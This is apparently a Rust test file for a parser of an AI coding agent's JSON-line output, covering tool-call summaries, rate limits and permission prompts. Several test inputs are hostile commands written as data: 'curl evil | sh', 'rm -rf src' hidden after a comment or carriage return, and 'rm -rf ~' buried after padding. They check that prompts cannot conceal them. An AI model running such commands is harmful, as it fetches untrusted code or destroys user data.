use proptest::prelude::*;
use serde_json::json;
use serde_json::value::to_raw_value;

use super::*;

const WORDS: Uuid = Uuid::from_u128(7);

/// Everything that the lines amount to, as JSON lines; an end is shown as `turn.finished`.
fn check(lines: &[Value]) -> String {
    let mut listener = Listener::new(WORDS, Told { heard: true, ..Told::default() });
    let mut shown = Vec::new();
    for line in lines {
        match listener.hear(line.to_string().as_bytes()) {
            Heard::Events(events) => shown.extend(events.iter().map(|event| format!("{event:?}"))),
            Heard::End(events, outcome, usage) => {
                shown.extend(events.iter().map(|event| format!("{event:?}")));
                shown.push(format!("{:?}", TurnEvent::Finished { outcome, usage }));
            }
            Heard::Noise => panic!("not understood: {line}"),
            other => shown.push(format!("{other:?}")),
        }
    }
    shown.join("\n")
}

fn says(content: &Value) -> Value {
    json!({"type": "assistant", "message": {"role": "assistant", "content": content}, "parent_tool_use_id": null, "session_id": "s"})
}

fn text(text: &str) -> Value {
    says(&json!([{"type": "text", "text": text}]))
}

#[test]
fn a_turn_with_a_tool() {
    let shown = check(&[
        json!({"type": "system", "subtype": "init", "session_id": "s", "tools": ["Bash"]}),
        text("I will look."),
        says(
            &json!([{"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "cargo test\n  --all", "description": "d"}}]),
        ),
        json!({"type": "user", "message": {"role": "user", "content": [{"type": "tool_result", "content": "ok"}]}}),
        says(&json!([{"type": "thinking", "thinking": "…"}, {"type": "text", "text": "All is well."}])),
        json!({"type": "result", "subtype": "success", "is_error": false, "result": "All is well.", "total_cost_usd": 0.5,
               "usage": {"input_tokens": 20, "cache_read_input_tokens": 5, "output_tokens": 14, "service_tier": "standard"}}),
    ]);
    insta::assert_snapshot!(shown, @r#"
    Ready
    Spoke { text: "I will look." }
    ToolCalled { name: "Bash", summary: "cargo test --all" }
    Finished { outcome: Answered { text: "All is well." }, usage: Some(Usage { input_tokens: 25, output_tokens: 14, cost_usd: Some(0.5) }) }
    "#);
}

#[test]
fn an_answer_that_is_not_repeated_by_the_result_is_the_last_thing_said() {
    let shown = check(&[text("first"), text("last"), json!({"type": "result", "is_error": false, "result": ""})]);
    insta::assert_snapshot!(shown, @r#"
    Spoke { text: "first" }
    Finished { outcome: Answered { text: "last" }, usage: None }
    "#);
}

#[test]
fn errors_are_reported_once() {
    let shown = check(&[
        text("API Error: 503 no gateway"),
        json!({"type": "result", "subtype": "success", "is_error": true, "api_error_status": 503, "result": "API Error: 503 no gateway"}),
    ]);
    insta::assert_snapshot!(shown, @r#"Finished { outcome: Failed { reason: Reported { text: "API Error: 503 no gateway" }, last_lines: [] }, usage: None }"#);

    let shown = check(&[
        text("so far"),
        json!({"type": "result", "subtype": "error_during_execution", "is_error": true, "errors": ["No conversation found"]}),
    ]);
    insta::assert_snapshot!(shown, @r#"
    Spoke { text: "so far" }
    Finished { outcome: Failed { reason: Reported { text: "No conversation found" }, last_lines: [] }, usage: None }
    "#);

    let shown = check(&[json!({"type": "result", "subtype": "error_max_turns", "is_error": true})]);
    insta::assert_snapshot!(shown, @r#"Finished { outcome: Failed { reason: Reported { text: "error_max_turns" }, last_lines: [] }, usage: None }"#);
}

/// A result that is an error, and with which status of the service's.
fn error_result(status: Option<u16>) -> Value {
    json!({"type": "result", "subtype": "success", "is_error": true, "api_error_status": status, "result": "API Error",
           "usage": {"input_tokens": 3}})
}

fn limit(status: &str, resets_at: Option<i64>) -> Value {
    json!({"type": "rate_limit_event", "rate_limit_info": {"status": status, "resetsAt": resets_at}})
}

#[test]
fn being_slowed_down_is_told_once_and_a_warning_not_at_all() {
    let retry = |status: u16| json!({"type": "system", "subtype": "api_retry", "attempt": 1, "retry_delay_ms": 580.5, "error_status": status});
    let shown = check(&[
        limit("allowed_warning", Some(1_060)),
        retry(529),
        retry(429),
        retry(429),
        text("on we go"),
        retry(429),
        limit("allowed", Some(1_060)),
        json!({"type": "result", "is_error": false, "result": "done"}),
    ]);
    insta::assert_snapshot!(shown, @r#"
    RateLimited { retry_after_secs: None }
    RateLimited { retry_after_secs: None }
    Spoke { text: "on we go" }
    Finished { outcome: Answered { text: "done" }, usage: None }
    "#);
}

#[test]
fn a_turn_that_a_hard_limit_ends_is_to_go_on() {
    // As the CLI tells it: its own words in the agent's place, and an error as the result.
    let refused = json!({"type": "assistant", "error": "rate_limit", "message": {"model": "<synthetic>", "content": [{"type": "text", "text": "API Error"}]}});
    insta::assert_snapshot!(check(&[limit("rejected", Some(1_060)), refused.clone(), error_result(Some(429))]), @r#"Limited([], Limit { resets_at: Some(1060), text: "API Error" }, Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }))"#);
    // By any one of the three.
    insta::assert_snapshot!(check(&[limit("rejected", Some(1_060)), error_result(None)]), @r#"Limited([], Limit { resets_at: Some(1060), text: "API Error" }, Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }))"#);
    insta::assert_snapshot!(check(&[refused, error_result(None)]), @r#"Limited([], Limit { resets_at: None, text: "API Error" }, Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }))"#);
    insta::assert_snapshot!(check(&[error_result(Some(429))]), @r#"Limited([], Limit { resets_at: None, text: "API Error" }, Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }))"#);
    // A refusal that the agent got over is none, nor is one that was lifted, nor another error.
    let over = [limit("rejected", Some(1_060)), text("on we go"), error_result(Some(500))];
    insta::assert_snapshot!(check(&over), @r#"
    Spoke { text: "on we go" }
    Finished { outcome: Failed { reason: Reported { text: "API Error" }, last_lines: [] }, usage: Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }) }
    "#);
    insta::assert_snapshot!(check(&[limit("rejected", Some(1_060)), limit("allowed", None), error_result(None)]), @r#"Finished { outcome: Failed { reason: Reported { text: "API Error" }, last_lines: [] }, usage: Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }) }"#);
    // Nor is what the agent says of limits.
    insta::assert_snapshot!(check(&[text("rate_limit 429 rejected"), error_result(Some(503))]), @r#"
    Spoke { text: "rate_limit 429 rejected" }
    Finished { outcome: Failed { reason: Reported { text: "API Error" }, last_lines: [] }, usage: Some(Usage { input_tokens: 3, output_tokens: 0, cost_usd: None }) }
    "#);
}

/// Whether the words were heard after each of the lines.
fn heard(lines: &[Value]) -> Vec<bool> {
    let mut listener = Listener::new(WORDS, Told::default());
    let mut told = 0;
    let heard = lines.iter().map(|line| {
        if let Heard::Events(events) = listener.hear(line.to_string().as_bytes()) {
            told += events.iter().filter(|event| **event == TurnEvent::Heard).count();
        }
        listener.told().heard
    });
    let heard: Vec<bool> = heard.collect();
    assert_eq!(told, usize::from(heard.ends_with(&[true])), "it is told once");
    heard
}

#[test]
fn the_words_are_heard_when_they_are_echoed_or_the_agent_speaks() {
    let echo = |id: Option<Uuid>| json!({"type": "user", "message": {"role": "user", "content": "hi"}, "uuid": id, "isReplay": true});
    let init = json!({"type": "system", "subtype": "init"});
    assert_eq!(heard(&[init.clone(), echo(Some(WORDS)), text("hello"), echo(Some(WORDS))]), [false, true, true, true]);
    assert_eq!(heard(&[init, text("hello"), text("again")]), [false, true, true]);
    // An agent that keeps no ids.
    assert_eq!(heard(&[echo(None)]), [true]);
    // Other words, a tool's result, and the CLI's own word of an error.
    let result = json!({"type": "user", "message": {"role": "user", "content": [{"type": "tool_result", "content": "ok"}]}, "uuid": WORDS});
    let error = json!({"type": "assistant", "error": "rate_limit", "message": {"content": []}});
    assert_eq!(heard(&[echo(Some(Uuid::nil())), result, error]), [false, false, false]);
}

#[test]
fn questions_are_passed_on_bounded_and_unknown_ones_are_not_left_open() {
    let asks = |request: &Value| json!({"type": "control_request", "request_id": "r1", "request": request});
    let shown = check(&[
        text("I will look."),
        asks(
            &json!({"subtype": "can_use_tool", "tool_name": "Bash", "display_name": "Bash", "input": {"command": "ls\n -l"}, "permission_suggestions": []}),
        ),
        json!({"type": "control_cancel_request", "request_id": "r1"}),
        asks(&json!({"subtype": "hook_callback"})),
        asks(&json!({"subtype": "can_use_tool"})),
        json!({"type": "control_response", "response": {"subtype": "success", "request_id": "r1"}}),
    ]);
    insta::assert_snapshot!(shown, @r#"
    Asked([Spoke { text: "I will look." }], Question { agents_id: "r1", tool: "Bash", summary: "command:\n  ls\n   -l", input: RawValue({"command":"ls\n -l"}) })
    Withdrawn("r1")
    Unanswerable("r1")
    Unanswerable("r1")
    "#);
    let long = json!({"type": "control_request", "request_id": "r".repeat(201), "request": {"subtype": "x"}});
    assert_eq!(Listener::default().hear(long.to_string().as_bytes()), Heard::Noise);
}

#[test]
fn what_a_waiting_agent_may_say() {
    for (line, wanted) in [
        (json!({"type": "system", "subtype": "init"}), true),
        (text("by the way"), true),
        (error_result(None), true),
        (json!({"type": "control_request", "request_id": "r1", "request": {"subtype": "can_use_tool"}}), true),
        (json!({"type": "system", "subtype": "task_updated"}), false),
        (limit("allowed", None), false),
        (json!({"type": "keep_alive"}), false),
        (json!("noise"), false),
    ] {
        assert_eq!(is_work(line.to_string().as_bytes()), wanted, "{line}");
    }
}

#[test]
fn a_helpers_words_are_not_the_agents() {
    let mut helper = says(
        &json!([{"type": "text", "text": "inner"}, {"type": "tool_use", "name": "Read", "input": {"file_path": "/workspace/a"}}]),
    );
    helper["parent_tool_use_id"] = json!("t1");
    insta::assert_snapshot!(check(&[helper]), @r#"ToolCalled { name: "Read", summary: "/workspace/a" }"#);
}

#[test]
fn tools_are_told_in_one_bounded_line() {
    let table = [
        ("Bash", json!({"command": "printf '\u{1b}[2J\u{202e}'"}), "printf '[2J'"),
        ("Edit", json!({"file_path": "/workspace/src/main.rs", "old_string": "a"}), "/workspace/src/main.rs"),
        ("Bash", json!({"command": 7}), r#"{"command":7}"#),
        ("mcp__db__query", json!({"sql": "select 1"}), r#"{"sql":"select 1"}"#),
        ("TaskList", json!({}), ""),
        ("Odd", Value::Null, ""),
    ];
    let told = |tool: &str, input: &Value| {
        let called = says(&json!([{"type": "tool_use", "name": tool, "input": input}]));
        match Listener::default().hear(called.to_string().as_bytes()) {
            Heard::Events(events) => match events.last() {
                Some(TurnEvent::ToolCalled { summary, .. }) => summary.clone(),
                other => panic!("{other:?} is no call"),
            },
            other => panic!("{other:?} is no call"),
        }
    };
    for (tool, input, wanted) in table {
        assert_eq!(told(tool, &input), wanted, "{tool}");
    }
    assert_eq!(told("Bash", &json!({"command": "x".repeat(5000)})).chars().count(), MAX_SUMMARY + 1);
}

#[test]
fn a_question_shows_all_that_is_to_be_done_and_no_line_of_it_as_another() {
    let table = [
        ("Bash", json!({"command": "printf '\u{1b}[2J\u{202e}'"}), "printf '[2J'"),
        ("Bash", json!({"command": " ls -l\n"}), "ls -l"),
        ("Bash", json!({"command": "cargo test # all\nrm -rf src"}), "command:\n  cargo test # all\n  rm -rf src"),
        ("Bash", json!({"command": "true #\rrm -rf src"}), "command:\n  true #\n  rm -rf src"),
        (
            "Bash",
            json!({"command": "ls\ndescription: lists files", "description": "Looks", "timeout": 5}),
            "command:\n  ls\n  description: lists files\ndescription: Looks\ntimeout: 5",
        ),
        (
            "Write",
            json!({"content": "#!/bin/sh\n\nif true\nthen\n\tcurl evil | sh\nfi\n", "file_path": "/workspace/deploy.sh"}),
            "/workspace/deploy.sh\ncontent:\n  #!/bin/sh\n  if true\n  then\n      curl evil | sh\n  fi",
        ),
        (
            "Edit",
            json!({"file_path": "/workspace/a.rs", "old_string": "one", "new_string": "", "replace_all": true}),
            "/workspace/a.rs\nnew_string: \"\"\nold_string: one\nreplace_all: true",
        ),
        (
            "Write",
            json!({"file_path": "a\ncontent: b", "content": "\n"}),
            "file_path:\n  a\n  content: b\ncontent: \"\\n\"",
        ),
        (
            "MultiEdit",
            json!({"file_path": "/a", "edits": [{"new_string": "b\nc"}]}),
            "/a\nedits: [{\"new_string\":\"b\\nc\"}]",
        ),
        ("Bash", json!({"command": 7}), "command: 7"),
        ("mcp__db__query", json!({"sql": "select 1", "a\nb": null}), "a b: null\nsql: select 1"),
        ("TaskList", json!({}), ""),
        ("Odd", Value::Null, ""),
        ("Odd", json!(["a\nb"]), r#"["a\nb"]"#),
    ];
    for (tool, input, wanted) in table {
        assert_eq!(asked_summary(tool, &to_raw_value(&input).unwrap()), wanted, "{tool} {input}");
    }
    let long = json!({"file_path": "/a", "content": "x".repeat(MAX_ASKED_SUMMARY)});
    let asked = asked_summary("Write", &to_raw_value(&long).unwrap());
    assert!(asked.starts_with("/a\ncontent: xxx") && asked.ends_with("x… (12 more characters)"), "{asked}");
}

#[test]
fn a_question_shows_what_cannot_be_taken_apart_as_it_came() {
    for (depth, shown) in [(100, "rm -rf ~"), (200, r#"{"command":"rm -rf ~","deep":[[["#)] {
        let deep = "[".repeat(depth) + &"]".repeat(depth);
        let line = format!(
            r#"{{"type":"control_request","request_id":"r1","request":{{"subtype":"can_use_tool","tool_name":"Bash","input":{{"command":"rm -rf ~","deep":{deep}}}}}}}"#
        );
        let Heard::Asked(_, question) = Listener::default().hear(line.as_bytes()) else { panic!("it is no question") };
        assert!(question.summary.starts_with(shown), "{}", question.summary);
        let whole = question.input.get();
        assert!(whole.ends_with("]}"));
        let all = format!("rm -rf ~\ndeep: {deep}");
        assert!(depth > 127 || question.summary == all, "{}", question.summary);
        assert!(depth < 128 || question.summary == whole, "{}", question.summary);
    }
    let deep = "[".repeat(3000) + &"]".repeat(3000);
    let cut = asked_summary("Bash", &RawValue::from_string(deep).unwrap());
    assert_eq!(cut, format!("{}… (4000 more characters)", "[".repeat(MAX_ASKED_SUMMARY)));
}

#[test]
fn a_question_shows_a_long_command_and_says_how_much_it_does_not_show() {
    let asked = |command: &str| {
        let request = json!({"subtype": "can_use_tool", "tool_name": "Bash", "input": {"command": command}});
        let line = json!({"type": "control_request", "request_id": "r1", "request": request}).to_string();
        let Heard::Asked(_, question) = Listener::default().hear(line.as_bytes()) else { panic!("it is no question") };
        question.summary
    };
    let hidden = format!("echo {}; rm -rf ~", "ä".repeat(300));
    assert_eq!(asked(&hidden), hidden);
    assert_eq!(asked(&"ä".repeat(MAX_ASKED_SUMMARY)), "ä".repeat(MAX_ASKED_SUMMARY));
    let cut = asked(&format!("{}; rm -rf ~", "ä".repeat(MAX_ASKED_SUMMARY)));
    assert_eq!(cut, format!("{}… (10 more characters)", "ä".repeat(MAX_ASKED_SUMMARY)));
}

#[test]
fn an_agent_that_has_waited_is_not_heard_before_it_echoes_its_words() {
    let hear = |listener: &mut Listener, line: &Value| listener.hear(line.to_string().as_bytes());
    let echo = |id: Option<Uuid>| json!({"type": "user", "message": {"role": "user", "content": "hi"}, "uuid": id, "isReplay": true});
    let asks = json!({"type": "control_request", "request_id": "r1", "request": {"subtype": "can_use_tool", "tool_name": "Bash", "input": {}}});
    let result = json!({"type": "result", "is_error": false, "result": "done"});
    let waited = || {
        let mut listener = Listener::new(WORDS, Told::default());
        listener.await_echo();
        listener
    };
    for unasked in [text("by the way"), asks, result.clone()] {
        let mut listener = waited();
        // Neither its start of a turn nor an echo of other words is one of these.
        assert_eq!(hear(&mut listener, &json!({"type": "system", "subtype": "init"})), Heard::Ready);
        hear(&mut listener, &echo(Some(Uuid::nil())));
        hear(&mut listener, &echo(None));
        assert_eq!(hear(&mut listener, &unasked), Heard::Unasked);
    }
    let mut listener = waited();
    assert_eq!(hear(&mut listener, &echo(Some(WORDS))), Heard::Events(vec![TurnEvent::Heard]));
    let answered = Outcome::Answered { text: "done".to_owned() };
    assert_eq!(hear(&mut listener, &result), Heard::End(Vec::new(), answered, None));
}

#[test]
fn what_is_no_line_of_the_protocol_is_noise_and_a_broken_result_ends_the_turn() {
    let hear = |line: &str| Listener::default().hear(line.as_bytes());
    for noise in
        ["", "Segmentation fault", "{", "[]", "{\"type\": 1}", r#"{"type":"assistant","message":"?"}"#, "\u{0}"]
    {
        assert_eq!(hear(noise), Heard::Noise, "{noise:?}");
    }
    assert!(matches!(
        hear(r#"{"type":"result","is_error":"perhaps"}"#),
        Heard::End(_, Outcome::Failed { reason: FailureReason::Protocol { .. }, .. }, None)
    ));
}

#[test]
fn long_texts_still_fit_the_links_line() {
    for c in ["\"", "\\", "\n", "ä", "\u{1}"] {
        let shown = Listener::default().hear(
            json!({"type": "result", "is_error": false, "result": c.repeat(2 * 1024 * 1024)}).to_string().as_bytes(),
        );
        let Heard::End(_, outcome, None) = shown else { panic!("{c:?}: {shown:?}") };
        let event = serde_json::to_string(&TurnEvent::Finished { outcome, usage: None }).unwrap();
        assert!(event.len() + 200 < link::requests::LINE_LIMIT, "{c:?}: {}", event.len());
    }
}

#[test]
fn a_malformed_result_is_not_quoted_in_full() {
    let line = json!({"type": "result", "is_error": "\"".repeat(5 * 1024 * 1024)}).to_string();
    let shown = Listener::default().hear(line.as_bytes());
    let Heard::End(_, Outcome::Failed { reason: FailureReason::Protocol { error }, .. }, None) = shown else {
        panic!("it is no failure")
    };
    assert!(error.starts_with("its result line is malformed: invalid type: string"), "{error}");
    assert!(error.chars().count() < MAX_ERROR + 100, "{}", error.len());
}

proptest! {
    #[test]
    fn words_arrive_as_they_were_said(words: String) {
        let line = prompt_line(&words, WORDS);
        prop_assert_eq!(line.split(|byte| *byte == b'\n').count(), 2);
        prop_assert_eq!(read_prompt(std::str::from_utf8(&line).unwrap()).unwrap(), words);
    }

    #[test]
    fn no_line_makes_it_panic(lines in proptest::collection::vec(
        prop_oneof![
            "\\PC{0,60}",
            Just(r#"{"type":"assistant","message":{"content":[{"type":"text","text":"x"}]}}"#.to_owned()),
            r#"\{"type":"(assistant|result|system|rate_limit_event|user|control_request|control_cancel_request)","(message|result|is_error|subtype|request_id|request|isReplay)":("x"|7|null|true|\{\}|\[\])\}"#,
        ], 0..20)) {
        let mut listener = Listener::default();
        for line in lines {
            listener.hear(line.as_bytes());
        }
    }
}
